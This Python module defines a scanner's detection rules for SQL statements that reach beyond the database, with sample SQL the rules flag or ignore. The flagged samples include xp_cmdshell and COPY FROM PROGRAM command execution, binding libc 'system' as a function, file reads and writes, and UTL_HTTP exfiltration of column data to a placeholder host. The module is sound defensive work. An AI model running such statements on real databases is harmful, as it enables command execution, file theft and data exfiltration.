"""Rules about what a statement reaches beyond the database: commands, libraries, files, the network, jobs.

The one idea: the machine of the database lends its rights to whoever may call its functions, so these calls are judged like those of
any program.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from ringfence.scanning.effects import Kind
from ringfence.scanning.findings import Family
from ringfence.scanning.rule import Rule, RuleException, When
from ringfence.scanning.rules.examples import SQL, sql
from ringfence.threat import ThreatLevel

if TYPE_CHECKING:
    from collections.abc import Iterator

_READERS = (
    "pg_*", "lo_import", "load_file", "readfile", "fsdir", "lsdir", "xp_*", "sys.fn_*", "fn_*", "utl_file.*", "bfilename", "dbms_lob.*",
)  # fmt: skip

_WRITERS = (
    "into outfile", "into dumpfile", "lo_export", "pg_file_*", "writefile", "utl_file.*", "dbms_*", "xp_*",
)  # fmt: skip

_LOADERS = ("load data", "bulk insert", "openrowset", "copy", "import database")

_SAVERS = ("copy", "attach", "backup", "vacuum into", "export database", "export data", "unload")

_OUT_OF_BAND = (
    "utl_*",
    "dbms_ldap.*",
    "httpuritype",
    "http_*",
    "sp_send_dbmail",
    "xp_sendmail",
    "sp_invoke_*",
)


def _beyond() -> Iterator[Rule]:
    """Return the rules about what reaches beyond the database."""
    yield Rule(
        id="database-run-command",
        title="Runs a command on the database's machine",
        family=Family.SUBPROCESS,
        level=ThreatLevel.CRITICAL,
        description="{name} runs {value} on the machine of the database.",
        when=(When(Kind.RUN, languages=SQL),),
        found=sql("COPY t FROM PROGRAM 'id'", "EXEC master..xp_cmdshell 'whoami'", "SELECT sys_exec('id')"),
        ignored=sql("COPY t FROM STDIN", "SELECT program FROM t", "SELECT 'xp_cmdshell'"),
        tags=("CWE-78", "T1059", "T1505.001", "ASI05"),
        hint="Do not run commands from SQL.",
    )
    yield Rule(
        id="database-native",
        title="Loads native code into the database",
        family=Family.NATIVE,
        level=ThreatLevel.CRITICAL,
        description="{name} loads {value} into the process of the database.",
        when=(When(Kind.NATIVE, languages=SQL),),
        found=sql(
            "SELECT load_extension('x.so')",
            "CREATE FUNCTION f(text) RETURNS int AS '/lib/libc.so.6', 'system' LANGUAGE C STRICT",
            "CREATE FUNCTION sys_exec RETURNS INT SONAME 'x.so'",
        ),
        ignored=sql(
            "CREATE FUNCTION f(a int) RETURNS int AS 'SELECT 1' LANGUAGE SQL",
            "SELECT language FROM t",
            "INSTALL httpfs",
        ),
        tags=("CWE-114", "T1505.001", "T1129"),
        hint="Do not load libraries or write functions in unrestricted languages.",
        exceptions=(RuleException("database-extension says it", names=("load", "install")),),
    )
    yield Rule(
        id="database-extension",
        title="Loads an extension",
        family=Family.NATIVE,
        level=ThreatLevel.MEDIUM,
        description="{name} adds the extension {value} to the database.",
        when=(
            When(Kind.NATIVE, names=("load", "install"), languages=SQL),
            When(Kind.QUERY, names=("create extension",)),
        ),
        found=sql("INSTALL httpfs", "LOAD spatial", "CREATE EXTENSION dblink"),
        ignored=sql("SELECT extension FROM t", "SELECT 'LOAD x'"),
        tags=("T1129",),
        hint="Have extensions installed by whoever runs the database.",
    )
    yield Rule(
        id="database-read-file",
        title="Reads files of the database's machine",
        family=Family.FILES,
        level=ThreatLevel.HIGH,
        description="{name} reads {value} with the rights of the database.",
        when=tuple(When(kind, names=_READERS, languages=SQL) for kind in (Kind.READ, Kind.LIST)),
        found=sql(
            "SELECT pg_read_file('/x')",
            "SELECT LOAD_FILE('/x')",
            "SELECT lo_import('/x')",
            "EXEC xp_dirtree 'c:/x'",
        ),
        ignored=sql("SELECT * FROM read_csv('x.csv')", "SELECT load_file FROM t", "COPY t FROM STDIN"),
        tags=("CWE-552", "T1005"),
        hint="Read files outside of the database, if the task needs them.",
    )
    yield Rule(
        id="database-write-file",
        title="Writes files on the database's machine",
        family=Family.FILES,
        level=ThreatLevel.HIGH,
        description="{name} writes {value} with the rights of the database.",
        when=(When(Kind.WRITE, names=_WRITERS, languages=SQL),),
        found=sql(
            "SELECT 1 INTO OUTFILE '/x'", "SELECT lo_export(1, '/x')", "SELECT writefile('x', a) FROM t"
        ),
        ignored=sql("SELECT a INTO b FROM t", "SELECT outfile FROM t", "COPY (SELECT 1) TO STDOUT"),
        tags=("CWE-552", "T1505.003"),
        hint="Return the rows; write files outside of the database, if the task needs them.",
    )
    yield Rule(
        id="database-move-file",
        title="Moves data between tables and files",
        family=Family.FILES,
        level=ThreatLevel.MEDIUM,
        description="{name} takes {value} in or writes it out, or opens it as a database.",
        when=(
            When(Kind.READ, names=_LOADERS, languages=SQL),
            When(Kind.WRITE, names=_SAVERS, languages=SQL),
        ),
        found=sql(
            "COPY t TO 'x.csv'",
            "ATTACH DATABASE 'x.db' AS x",
            "LOAD DATA INFILE 'x.csv' INTO TABLE t",
            "VACUUM INTO 'x.db'",
        ),
        ignored=sql("COPY t TO STDOUT", "SELECT attach FROM t"),
        tags=("CWE-552", "T1005"),
        hint="Return the rows instead.",
    )
    yield Rule(
        id="database-connect",
        title="Connects from within the database",
        family=Family.NETWORK,
        level=ThreatLevel.MEDIUM,
        description="{name} reaches {value} from the machine of the database.",
        when=(When(Kind.CONNECT, languages=SQL),),
        found=sql(
            "SELECT * FROM dblink('host=x', 'SELECT 1') AS t(a int)",
            "SELECT * FROM url('http://example.org', 'CSV')",
        ),
        ignored=sql("SELECT url FROM t", "SELECT 'http://example.org'"),
        tags=("CWE-918", "T1048"),
        hint="Connect outside of the database, if the task needs it.",
        exceptions=(RuleException("database-out-of-band says it", names=_OUT_OF_BAND),),
    )
    yield Rule(
        id="database-out-of-band",
        title="Sends data out of the database by itself",
        family=Family.EXFILTRATION,
        level=ThreatLevel.HIGH,
        description="{name} makes the machine of the database ask {value}, which carries data out past whoever reads the answer.",
        when=(When(Kind.CONNECT, names=_OUT_OF_BAND, languages=SQL),),
        found=sql(
            "SELECT UTL_HTTP.REQUEST('http://example.org/' || a) FROM t",
            "SELECT UTL_INADDR.GET_HOST_ADDRESS('x.example.org') FROM dual",
        ),
        ignored=sql("SELECT request FROM utl_http", "SELECT * FROM dblink('host=x', 'SELECT 1') AS t(a int)"),
        tags=("CWE-918", "T1048"),
        hint="Return the rows instead.",
    )
    yield Rule(
        id="database-job",
        title="Has the database run something later",
        family=Family.PERSISTENCE,
        level=ThreatLevel.HIGH,
        description="{name} makes the database run {value} by itself.",
        when=(When(Kind.PERSIST, languages=SQL),),
        found=sql("EXEC msdb.dbo.sp_add_job 'x'", "CALL dbms_scheduler.create_job('x')"),
        ignored=sql("SELECT job FROM t", "EXEC sp_help_job"),
        tags=("T1053", "T1505.001"),
        hint="Do not leave jobs in the database.",
    )


RULES: tuple[Rule, ...] = tuple(_beyond())
